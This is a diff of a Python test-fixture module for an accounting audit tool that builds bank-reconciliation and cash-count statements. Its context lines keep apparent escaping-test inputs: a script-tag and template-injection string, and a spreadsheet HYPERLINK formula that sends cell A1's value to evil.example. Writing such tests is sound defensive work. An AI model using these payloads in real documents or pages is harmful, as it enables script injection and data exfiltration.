@@ -8,6 +8,7 @@ from datetime import date
 from decimal import Decimal
 from typing import Any
 
+from auditor.audit.headlines import headlines_of
 from auditor.checks.base import Population
 from auditor.findings.model import (
     AuditInfo,
@@ -16,18 +17,25 @@ from auditor.findings.model import (
     Failed,
     Finding,
     NearMiss,
+    RanSet,
     RecordRef,
     RuleResult,
     Statement,
+    StatementForm,
     StatementLine,
     Tier,
 )
+from auditor.findings.statements import form_of_file
 from auditor.languages import Text
+from auditor.rules.folders import find_rule_set, load_folders
+from auditor.rules.merging import merged
+from auditor.rules.statements import load_statements
 
 HOSTILE = "<script>alert(1)</script>{{ 7*7 }}{% raw %}"
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 LINK = "https://evil.example/pay"
 ZERO = Decimal(0)
+HEADLINES = headlines_of(merged(load_folders([find_rule_set("freight-month-end")]))[0])
 
 
 def text(en: str, zh: str) -> Text:
@@ -321,6 +329,11 @@ def line(en: str, zh: str, role: str, amount: str, *items: tuple[str, str]) -> S
     )
 
 
+def form(name: str) -> StatementForm:
+    """How the rule set lays out its statement of this name."""
+    return form_of_file(load_statements(find_rule_set("cash-and-bank"))[0][name])
+
+
 def statements() -> tuple[Statement, ...]:
     bank = Statement(
         "bank-reconciliation/CCB",
@@ -353,6 +366,7 @@ def statements() -> tuple[Statement, ...]:
             line("Difference that remains", "未查明差额", "check", "0.00"),
         ),
         ties=True,
+        form=form("bank-reconciliation"),
     )
     cash = Statement(
         "cash-count/2026-10-31",
@@ -367,6 +381,7 @@ def statements() -> tuple[Statement, ...]:
             line("Short or over", "短款或长款", "check", "-35.00"),
         ),
         ties=False,
+        form=form("cash-count"),
     )
     return bank, cash
 
@@ -436,12 +451,17 @@ def result() -> AuditResult:
             auditor="0.1.0",
             run_at="2026-11-03 09:00:00",
             calendar="cn",
+            sets=(
+                RanSet("freight-month-end", text("Freight forwarder's month end", "货代出纳月末审核"), "1.0"),
+                RanSet("cash-and-bank", text("Cash and bank", "现金与银行月末审核"), "1.0", asked=False),
+            ),
         ),
         documents=documents(),
         rules=rules(),
         findings=findings(),
         statements=statements(),
         titles={"live_slip": text("Receiving slips (live)", "收货清单（有效）")},
+        headlines=HEADLINES,
     )
 
 
